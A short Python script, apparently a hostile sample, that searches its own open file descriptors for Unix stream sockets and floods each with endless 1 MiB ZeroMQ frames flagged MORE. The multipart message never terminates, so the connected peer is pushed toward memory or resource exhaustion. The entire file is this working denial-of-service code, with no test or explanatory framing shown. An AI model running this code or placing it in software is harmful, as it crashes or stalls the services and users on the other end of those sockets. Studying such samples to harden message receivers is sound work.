"""Speaks ZeroMQ's protocol by itself: one message of parts without end, down the connection that is there."""

import os
import socket
import threading

MORE = 1


def send(connection, part):
    try:
        while True:
            connection.sendall(part)
    except OSError:
        pass


part = bytes([MORE | 2]) + (1 << 20).to_bytes(8) + bytes(1 << 20)
for number in map(int, os.listdir("/proc/self/fd")):
    try:
        connection = socket.socket(fileno=os.dup(number))
        if connection.family == socket.AF_UNIX and connection.type == socket.SOCK_STREAM:
            connection.setblocking(True)
            threading.Thread(target=send, args=(connection, part), daemon=True).start()
    except OSError:
        pass
